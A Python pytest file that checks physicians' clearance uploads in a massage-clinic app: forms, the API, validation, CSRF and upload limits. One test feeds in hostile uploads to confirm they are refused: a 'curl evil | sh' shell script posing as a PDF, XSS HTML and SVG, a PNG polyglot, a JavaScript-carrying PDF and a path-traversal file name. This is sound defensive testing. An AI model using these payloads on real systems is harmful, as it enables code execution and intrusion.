"""Physicians' clearances in the clinic app (issues 13 and 16), on both backends: the form on
the client and screening pages, the letter as a checked upload served back as a download, the
gate and the dashboard, the API, and uploads that try to attack the clinic."""

from __future__ import annotations

import io
import re
from datetime import date, timedelta
from pathlib import Path

from PIL import Image
from sqlalchemy import func, select
from webhelpers import PASSWORDS, csrf_of

from ashiguard.adapters.db.models import AuditEntry, Clearance
from ashiguard.adapters.uploads import MAX_UPLOAD_BYTES

TODAY = date.today()
PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)
FIELDS = {
    "physician_name": "Dr Jane Roe",
    "practice": "Northside Medical",
    "contact": "+44 20 7946 0000",
    "cleared_on": TODAY.isoformat(),
    "restrictions": "No work on the calves.",
}


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (30, 20), (1, 2, 3)).save(out, "PNG")
    return out.getvalue()


def _client_needing_clearance(c, *, more: dict | None = None) -> tuple[int, str]:
    """A client whose intake takes an anticoagulant (clearance_required); returns the client
    id and the screening page's path."""
    token = csrf_of(c, "/clients/new")
    r = c.post("/clients/new", data={"name": "Ada Lovelace", "csrf_token": token})
    cid = int(re.fullmatch(r"/clients/(\d+)/intake", r.headers["location"]).group(1))
    token = csrf_of(c, f"/clients/{cid}/intake")
    data = {
        "csrf_token": token,
        "date": TODAY.isoformat(),
        "medications.0.code": "anticoagulant",
        "medications.0.name": "apixaban",
        "conditions.0.code": "varicose_veins",  # modify: avoid the calves
        "conditions.0.status": "active",
        **(more or {}),
    }
    r = c.post(f"/clients/{cid}/intake", data=data)
    assert r.status_code == 303, r.text
    return cid, r.headers["location"]


def _post(c, cid, letter=("letter.pdf", PDF, "application/pdf"), token=None, **fields):
    token = csrf_of(c, f"/clients/{cid}") if token is None else token
    data = {"csrf_token": token, "rules": ["anticoagulant"], **FIELDS, **fields}
    files = {"letter": letter} if letter is not None else None
    return c.post(f"/clients/{cid}/clearances", data=data, files=files)


def _uploads(settings) -> list[Path]:
    root = settings.data_dir / "uploads"
    return sorted(root.iterdir()) if root.exists() else []


def _count(db) -> int:
    with db.session() as s:
        return int(s.scalar(select(func.count()).select_from(Clearance)))


def test_the_client_and_screening_pages_offer_the_form_and_then_show_the_clearance(
    as_role, db, settings
):
    c = as_role("front_desk")
    cid, screening_path = _client_needing_clearance(c)
    for path in (f"/clients/{cid}", screening_path):
        page = c.get(path).text
        assert "Record a physician's clearance" in page, path
        assert 'enctype="multipart/form-data"' in page and 'name="letter"' in page
        assert 'value="anticoagulant"' in page and "no clearance on file" in page
    assert "Ada Lovelace" in c.get("/").text  # on the dashboard's waiting list
    r = _post(c, cid)
    assert r.status_code == 303, r.text
    assert r.headers["location"] == f"/clients/{cid}#clearances"
    page = c.get(f"/clients/{cid}").text
    assert f"clearance on file from Dr Jane Roe, {TODAY.isoformat()}" in page
    assert "cleared by physician, within the restrictions" in page  # the vein rule's caps
    assert "Clearance required" in page  # the rules' decision is still shown as it was
    assert "Restrictions from Dr Jane Roe: No work on the calves." in page
    screening = c.get(screening_path).text
    assert "Cleared by physician, within the restrictions" in screening
    assert "Restrictions for the session" in screening
    assert "Ada Lovelace" not in c.get("/").text  # no longer waiting
    with db.session() as s:
        row = s.scalars(select(Clearance)).one()
        entry = s.scalars(select(AuditEntry).where(AuditEntry.entity == "clearance")).one()
    assert row.letter_name == "letter.pdf" and row.rules == ["anticoagulant"]
    assert entry.action == "create" and entry.username == "front_desk"
    letter = c.get(f"/clearances/{row.id}/letter")
    assert letter.status_code == 200 and letter.content == PDF
    assert letter.headers["content-type"] == "application/pdf"
    assert letter.headers["content-disposition"] == (
        f'attachment; filename="clearance-{row.id}-letter.pdf"'
    )
    assert letter.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in letter.headers["content-security-policy"]


def test_a_session_can_start_once_cleared_and_consented(as_role):
    c = as_role("therapist")
    cid, _ = _client_needing_clearance(c)
    token = csrf_of(c, f"/clients/{cid}/consent")
    c.post(
        f"/clients/{cid}/consent", data={"csrf_token": token, "typed_name": "Ada", "agreed": "1"}
    )
    assert "Start a session" not in c.get(f"/clients/{cid}").text
    assert _post(c, cid).status_code == 303
    assert "Start a session" in c.get(f"/clients/{cid}").text


def test_bad_fields_show_the_form_again_naming_the_field_and_store_nothing(as_role, db, settings):
    c = as_role("therapist")
    cid, _ = _client_needing_clearance(c)
    future = (TODAY + timedelta(days=2)).isoformat()
    for fields, text in (
        ({"cleared_on": future}, "lies in the future"),
        ({"physician_name": ""}, "required (the physician"),
        ({"rules": []}, "tick the findings"),
    ):
        r = _post(c, cid, **fields)
        assert r.status_code == 400, fields
        assert "Not recorded:" in r.text and text in r.text, fields
        assert 'value="Northside Medical"' in r.text  # what was typed stays
    r = _post(c, cid, letter=None)
    assert r.status_code == 400 and "attach the physician" in r.text
    assert _count(db) == 0 and _uploads(settings) == []


def test_attacking_uploads_are_refused_and_nothing_is_stored(as_role, db, settings):
    c = as_role("front_desk")
    cid, _ = _client_needing_clearance(c)
    js_pdf = PDF.replace(b"/Pages 2", b"/OpenAction << /JS (x) >> /Pages 2")
    attacks = [
        ("script as .pdf", ("letter.pdf", b"#!/bin/sh\ncurl evil | sh\n", "application/pdf")),
        ("HTML as image/png", ("scan.png", b"<html><script>alert(1)</script>", "image/png")),
        ("PNG then a page", ("scan.png", _png() + b"<script>alert(1)</script>", "image/png")),
        (
            "PNG magic then HTML",
            ("x.png", b"\x89PNG\r\n\x1a\n<html><script>x</script>", "image/png"),
        ),
        ("a PDF that runs script", ("l.pdf", js_pdf, "application/pdf")),
        ("an SVG as image/jpeg", ("a.jpg", b"<svg onload=alert(1)></svg>", "image/jpeg")),
    ]
    for what, letter in attacks:
        r = _post(c, cid, letter=letter)
        assert r.status_code == 400, what
        assert "Not recorded: " in r.text, what
    assert _count(db) == 0 and _uploads(settings) == []


def test_a_traversing_file_name_is_kept_as_text_and_never_used_as_a_path(as_role, db, settings):
    c = as_role("front_desk")
    cid, _ = _client_needing_clearance(c)
    r = _post(c, cid, letter=("../../secret.key", PDF, "text/html"))
    assert r.status_code == 303
    with db.session() as s:
        row = s.scalars(select(Clearance)).one()
    assert row.letter_name == "secret.key" and row.letter_type == "application/pdf"
    assert re.fullmatch(r"uploads/[0-9a-f]{32}\.pdf", row.letter_path)
    assert [p.name for p in _uploads(settings)] == [row.letter_path.split("/")[1]]
    assert not (settings.data_dir / "secret.key").read_text().startswith("%PDF")
    assert "secret.key" in c.get(f"/clients/{cid}").text  # shown as text
    letter = c.get(f"/clearances/{row.id}/letter")
    assert "secret.key" not in letter.headers["content-disposition"]


def test_an_oversized_upload_is_refused_before_it_is_read(as_role, db, settings):
    c = as_role("front_desk")
    cid, _ = _client_needing_clearance(c)
    just_over = PDF + b"%" * MAX_UPLOAD_BYTES  # the file alone: the form again, with why
    r = _post(c, cid, letter=("big.pdf", just_over, "application/pdf"))
    assert r.status_code == 400 and "larger than 5 MB" in r.text
    big = PDF + b"%" * (MAX_UPLOAD_BYTES + 200_000)  # the request: refused as it streams in
    r = _post(c, cid, letter=("big.pdf", big, "application/pdf"))
    assert r.status_code == 413 and "larger than 5 MB" in r.text
    # a declared length over the cap is refused before a byte of the body is read
    token = csrf_of(c, f"/clients/{cid}")

    def chunks():
        raise AssertionError("the body was read")
        yield b""  # pragma: no cover

    r = c.post(
        f"/clients/{cid}/clearances",
        content=chunks(),
        headers={
            "content-type": "multipart/form-data; boundary=x",
            "content-length": str(MAX_UPLOAD_BYTES * 2),
            "x-csrf-token": token,
        },
    )
    assert r.status_code == 413
    # a chunked body without a length is counted as it streams in
    sent = []

    def stream():
        head = f'--x\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n'
        yield head.encode() + b'--x\r\nContent-Disposition: form-data; name="letter"; '
        yield b'filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n'
        for _ in range(12):
            sent.append(1)
            yield b"%" * (1024 * 1024)

    r = c.post(
        f"/clients/{cid}/clearances",
        content=stream(),
        headers={"content-type": "multipart/form-data; boundary=x"},
    )
    assert r.status_code == 413
    assert _count(db) == 0 and _uploads(settings) == []


def test_a_clearance_posted_without_the_csrf_token_is_refused(as_role, db, settings):
    c = as_role("owner")
    cid, _ = _client_needing_clearance(c)
    assert _post(c, cid, token="").status_code == 403
    assert _count(db) == 0 and _uploads(settings) == []


def test_the_api_records_and_lists_clearances_with_the_effective_decision(client, as_role, db):
    c = as_role("therapist")
    cid, _ = _client_needing_clearance(c)
    r = client.post(
        "/api/v1/auth/token", json={"username": "front_desk", "password": PASSWORDS["front_desk"]}
    )
    h = {"Authorization": f"Bearer {r.json()['token']}"}
    before = client.get(f"/api/v1/clients/{cid}/clearances", headers=h).json()
    assert before["screening_decision"] == "clearance_required"
    assert before["effective_decision"] == "clearance_required"
    assert before["missing"] == ["anticoagulant"] and before["clearances"] == []
    bad = client.post(
        f"/api/v1/clients/{cid}/clearances",
        data={**FIELDS, "rules": ["anticoagulant"]},
        files={"letter": ("x.png", b"<html></html>", "image/png")},
        headers=h,
    )
    assert bad.status_code == 422
    assert bad.json() == {"detail": "letter: not a PDF, PNG or JPEG file (judged by its content)"}
    r = client.post(
        f"/api/v1/clients/{cid}/clearances",
        data={**FIELDS, "rules": ["anticoagulant"], "valid_until": str(TODAY + timedelta(days=90))},
        files={"letter": ("scan.png", _png(), "application/octet-stream")},
        headers=h,
    )
    assert r.status_code == 201, r.text
    out = r.json()
    assert out["letter_type"] == "image/png" and out["rules"] == ["anticoagulant"]
    assert out["facts"] == {}  # covered by its rule id
    assert out["letter_url"] == f"/clearances/{out['id']}/letter"
    after = client.get(f"/api/v1/clients/{cid}/clearances", headers=h).json()
    assert after["effective_decision"] == "modify" and after["missing"] == []
    assert after["screening_decision"] == "clearance_required"
    assert [x["id"] for x in after["clearances"]] == [out["id"]]
    letter = client.get(out["letter_url"], headers=h)
    assert letter.status_code == 200 and letter.headers["content-type"] == "image/png"
    too_big = client.post(
        f"/api/v1/clients/{cid}/clearances",
        data={**FIELDS, "rules": ["anticoagulant"]},
        files={"letter": ("big.pdf", PDF + b"%" * (MAX_UPLOAD_BYTES + 200_000), "application/pdf")},
        headers=h,
    )
    assert too_big.status_code == 413
    assert too_big.json()["detail"].startswith("letter: larger than 5 MB")
    assert _count(db) == 1
    spec = client.get("/api/v1/openapi.json", headers=h).json()
    post = spec["paths"]["/api/v1/clients/{client_id}/clearances"]["post"]
    assert "multipart/form-data" in post["requestBody"]["content"]
    assert post["responses"]["201"]["content"]["application/json"]["schema"]["$ref"].endswith(
        "/ClearanceOut"
    )
